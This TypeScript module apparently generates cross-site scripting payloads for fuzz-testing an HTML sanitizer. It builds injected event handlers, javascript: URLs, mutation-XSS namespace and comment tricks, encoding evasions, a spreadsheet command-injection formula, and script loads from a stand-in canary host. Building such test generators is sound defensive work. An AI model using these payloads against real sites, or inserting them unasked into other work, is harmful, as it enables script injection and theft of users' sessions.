import {
  type AttackForm,
  scriptElement,
  eventHandler,
  pointerHandler,
  addressInMarkup,
  bareAddress,
  style,
  animation,
  frameOfMarkup,
  handler,
  anyMarkup,
} from '#scripts/test/attack/markup-forms.ts'
import { encoded, fullWidth, insertAt } from '#scripts/test/attack/obfuscate.ts'
import type { SeededRandom } from '#scripts/test/attack/seeded-random.ts'
import {
  breakouts,
  canaryHost,
  contextElements,
  disturbances,
  eventNames,
} from '#scripts/test/attack/vocabulary.ts'

const wrappers = [
  'b',
  'i',
  'div',
  'span',
  'p',
  'ul',
  'table',
  'svg',
  'math',
  'font',
  'q',
  'blockquote',
  'template',
]

/** Every way of attacking that is known here, by its name. */
export const attackForms = {
  'script element': scriptElement,
  'event handler': eventHandler,
  'pointer handler': pointerHandler,
  'address in markup': addressInMarkup,
  'bare address': bareAddress,
  'source set': sourceSet,
  style,
  refresh,
  animation,
  'frame of markup': frameOfMarkup,
  breakout,
  'script string': scriptString,
  'namespace confusion': namespaceConfusion,
  'comment confusion': commentConfusion,
  'attribute mutation': attributeMutation,
  'embed code': embedCode,
  'written otherwise': writtenOtherwise,
  'odd characters': oddCharacters,
  'cut off': cutOff,
  'deep or long': deepOrLong,
  several,
} satisfies Record<string, AttackForm>

function sourceSet(random: SeededRandom, probe: string): string {
  const address = bareAddress(random, probe)
  return random.pick([
    `<img srcset="${address} 1x, //${canaryHost}/2.png 2x" ${handler(random, 'error', probe)}>`,
    `<picture><source srcset="//${canaryHost}/a.png"><img src=x ${handler(random, 'error', probe)}></picture>`,
    `<link rel=preload as=image imagesrcset="//${canaryHost}/b.png" ${handler(random, 'load', probe)}>`,
    `<img sizes="${probe}" srcset=",,,${address} ,x 1w">`,
  ])
}

function refresh(random: SeededRandom, probe: string): string {
  const address = bareAddress(random, probe)
  return random.pick([
    `<meta http-equiv="refresh" content="0;url=${address}">`,
    `<meta http-equiv=refresh content='0; url=//${canaryHost}/?${probe}'>`,
    `<meta http-equiv="Set-Cookie" content="a=<script>${probe}</script>">`,
    `<base href="//${canaryHost}/"><img src="base.png" alt="${probe}">`,
    `<base href="javascript:${probe}//"><a href="#">back</a>`,
    `<meta charset="x-mac-farsi">\u00bcscript \u00be${probe}//\u00bc/script \u00be`,
    `+ADw-script+AD4-${probe}+ADw-/script+AD4-`,
  ])
}

function breakout(random: SeededRandom, probe: string): string {
  const more = random.percent(40) ? random.pick(breakouts) : ''
  if (random.percent(30))
    return `${random.pick(['"', "'", '`', '" x="', "' x='"])} ${handler(random, random.pick(eventNames), probe)} autofocus tabindex=1 x="`
  return random.pick(breakouts) + more + anyMarkup(random, probe)
}

function scriptString(random: SeededRandom, probe: string): string {
  return random.pick([
    `';${probe}//`,
    `";${probe}//`,
    `\\';${probe}//`,
    `\\";${probe};//`,
    `'-(${probe})-'`,
    `"+(${probe})+"`,
    `\`+(${probe})+\``,
    '${' + probe + '}',
    '#{' + probe + '}',
    `{{constructor.constructor("${probe}")()}}`,
    `<%= ${probe} %>`,
    `\u2028${probe}\u2028//`,
    `\u2029${probe}`,
    `*/${probe}/*`,
    `</script><script>${probe}</script>`,
    `</script ><svg onload=${probe}>`,
    `<!--<script>"${probe}`,
    `"},"x":{"toString":"${probe}"}`,
    `"]}</script><script>${probe}//`,
    `__proto__[src]=data:,${probe}`,
    `\\u003cscript\\u003e${probe}\\u003c/script\\u003e`,
    `\\x3cimg src=x onerror=${probe}\\x3e`,
    `[click](javascript:${probe})`,
    `![x](x"onerror="${probe})`,
    `<javascript:${probe}>`,
    `=cmd|'/C ${probe}'!A0`,
  ])
}

function namespaceConfusion(random: SeededRandom, probe: string): string {
  const depth = 2 + random.below(4)
  let opened = ''
  for (let level = 0; level < depth; level += 1) {
    opened += `<${random.pick(contextElements)}>${random.percent(25) ? random.pick(disturbances) : ''}`
  }
  const hidden = `</${random.pick(['style', 'title', 'math', 'svg', 'noscript', 'textarea', 'xmp', 'template', 'p'])}>${anyMarkup(random, probe)}`
  return random.pick([
    `${opened}<a title="${hidden.replaceAll('"', "'")}">`,
    `${opened}<img alt="${hidden.replaceAll('"', '&quot;')}">`,
    opened + hidden,
    `${opened}<!--</style>--><img title="--&gt;${hidden.replaceAll('<', '&lt;').replaceAll('"', "'")}">`,
    `<form id=x><div></form><form>${opened}<style>${hidden}`,
    `${opened}<mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${probe}&gt;">`,
  ])
}

function commentConfusion(random: SeededRandom, probe: string): string {
  const markup = anyMarkup(random, probe)
  return random.pick([
    `<!--${random.pick(['>', '->', '-->', '--!>', '--\u0000>', ' --!>'])}${markup}-->`,
    `<!--<!-- --${random.pick(['>', '!>', ' >'])}${markup}`,
    `<![CDATA[${random.pick(['>', ']]>', ''])}${markup}]]>`,
    `<svg><![CDATA[</svg>${markup}]]></svg>`,
    `<?${random.pick(['x', 'xml-stylesheet type="text/css"'])} ${random.pick(['>', '?>', ''])}${markup}?>`,
    `<!DOCTYPE x "${random.pick(['">', '>', ''])}${markup}">`,
    `</${random.pick([' ', '!', '?', '\u0000', '1'])}${markup}>`,
    `<!--[if gte IE 4]>${markup}<![endif]-->`,
    `<title><!--</title>${markup}-->`,
    `<noscript><!--</noscript>${markup}--></noscript>`,
    `<template><!--</template>${markup}-->`,
    `<% ${markup} %>`,
    `<comment><img src="</comment>${markup.replaceAll('"', "'")}">`,
  ])
}

function attributeMutation(random: SeededRandom, probe: string): string {
  const markup = anyMarkup(random, probe).replaceAll('"', '').replaceAll("'", '')
  return random.pick([
    `<p title="${encoded(random, '"')}>${markup}">words</p>`,
    `<a href="https://a.example/${encoded(random, '"')} onmouseover=${probe} x=">words</a>`,
    `<td title='&lt;/td>${markup}'>words</td>`,
    `<abbr title="\`\` onmouseover=${probe}">words</abbr>`,
    `<time datetime="2026-11-04&quot; onfocus=&quot;${probe}">today</time>`,
    `<div title="--><script>${probe}</script>">words</div>`,
    `<a href="https://a.example" href="javascript:${probe}">words</a>`,
    `<a lang='"><script>${probe}</script>' dir="x">words</a>`,
    `<ol start='1" onclick="${probe}'><li value='2 onclick=${probe}'>words</ol>`,
    `<noscript><p title="</noscript>${markup}">`,
    `<xmp><p title="</xmp>${markup}">`,
    `<textarea><p title="</textarea>${markup}">`,
    `<q cite="javascript:${probe}" title='"/>${markup}'>words</q>`,
    `<details open ontoggle&#61;${probe}><summary>words</summary></details>`,
  ])
}

function embedCode(random: SeededRandom, probe: string): string {
  const attack = anyMarkup(random, probe)
  const address = bareAddress(random, probe).replaceAll('"', '')
  return random.pick([
    `<blockquote class="twitter-tweet"><p lang="en" dir="ltr">${attack}</p>&mdash; ${attack} (@saltmere) <a href="https://x.com/saltmere/status/123?${address}">4 November 2026</a></blockquote><script async src="//${canaryHost}/widgets.js"></script>`,
    `<blockquote class="twitter-tweet"><a href="${address}">${probe}</a></blockquote>`,
    `<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?x=${address}" title="${probe}" onload="${probe}"></iframe>`,
    `<iframe src="${address}" title='"><img src=x onerror=${probe}>'></iframe>`,
    `<blockquote class="instagram-media" data-instgrm-permalink="https://www.instagram.com/p/abc/${address}"><p>${attack}</p></blockquote><script async src="//${canaryHost}/embed.js"></script>`,
    `<blockquote class="tiktok-embed" cite="https://www.tiktok.com/@a/video/123" data-video-id='123"><img src=x onerror=${probe}>'><section>${attack}</section></blockquote>`,
    `<div class="fb-post" data-href="${address}"><blockquote>${attack}</blockquote></div>`,
    `<blockquote class="bluesky-embed" data-bluesky-uri="at://did:plc:x/app.bsky.feed.post/${address}"><p>${attack}</p></blockquote>`,
    `<script async src="https://telegram.org/js/telegram-widget.js?22" data-telegram-post="a/1" data-onauth="${probe}"></script>`,
    `<blockquote class="mastodon-embed" data-embed-url="https://social.example/@a/1/embed?${address}">${attack}</blockquote>`,
    `<div class="block block-embed" data-network='x"><svg onload=${probe}>' data-captured="${probe}"><div class="embed-text"><p>${attack}</p></div><footer><a href="${address}">link</a></footer></div>`,
    `<div class="block block-html">${attack}</div>`,
    `<figure class="block block-image"><img src="${address}" alt='"><script>${probe}</script>'><figcaption>${attack}</figcaption></figure>`,
  ])
}

function writtenOtherwise(random: SeededRandom, probe: string): string {
  const markup = anyMarkup(random, probe)
  return random.pick([
    markup.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    markup.replaceAll('<', '&amp;lt;'),
    markup.replaceAll('<', '%3C').replaceAll('>', '%3E').replaceAll('"', '%22'),
    markup.replaceAll('<', '\\u003c'),
    markup.replaceAll('<', '\u00c0\u00bc'),
    markup.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
    markup.replaceAll('<', '\u02c2').replaceAll('>', '\u02c3'),
    `${fullWidth(markup)} ${probe}`,
    markup.replaceAll('<', '&#x3c').replaceAll('>', '&#62'),
    markup.replaceAll('<', '<\u0338'),
    markup.replaceAll(' ', '\u3000'),
  ])
}

function oddCharacters(random: SeededRandom, probe: string): string {
  const odd = [
    '\u0000',
    '\ud800',
    '\udfff',
    '\ufffe',
    '\uffff',
    '\u202e',
    '\u2066',
    '\u200d',
    '\u200b',
    '\ufeff',
    '\u0085',
    '\u000b',
    '\u001b',
    '\u0338',
    '\u20e3',
    '\u{e0041}',
    '\u{1f469}\u200d\u{1f467}',
  ]
  let markup = anyMarkup(random, probe)
  const [before, after] = [markup.indexOf(probe), markup.indexOf(probe) + probe.length]
  const head = insertAt(random, markup.slice(0, before) || '<', random.pick(odd))
  markup = head + markup.slice(before, after) + random.pick(odd) + markup.slice(after)
  return random.percent(50) ? random.pick(odd) + markup : markup
}

function cutOff(random: SeededRandom, probe: string): string {
  const markup = anyMarkup(random, probe)
  const end = markup.indexOf(probe) + probe.length
  return markup.slice(0, end + random.below(markup.length - end + 1))
}

function deepOrLong(random: SeededRandom, probe: string): string {
  const wrapper = random.pick(wrappers)
  const count = random.pick([40, 120, 400])
  return random.pick([
    `<${wrapper}>`.repeat(count) + anyMarkup(random, probe),
    anyMarkup(random, probe) + `</${wrapper}>`.repeat(count),
    `<a ${'x=1 '.repeat(count)}${handler(random, 'focus', probe)} autofocus>`,
    `<p title="${'&quot;'.repeat(count)}>${anyMarkup(random, probe).replaceAll('"', "'")}">`,
    `${'<'.repeat(count)}img src=x onerror=${probe}${'>'.repeat(count)}`,
    `${'a\u0301'.repeat(count)}<img src=x onerror=${probe}>`,
    `<img src=x onerror=${' '.repeat(count)}${probe}>`,
  ])
}

function several(random: SeededRandom, probe: string): string {
  return anyMarkup(random, probe) + random.pick(disturbances) + anyMarkup(random, probe)
}
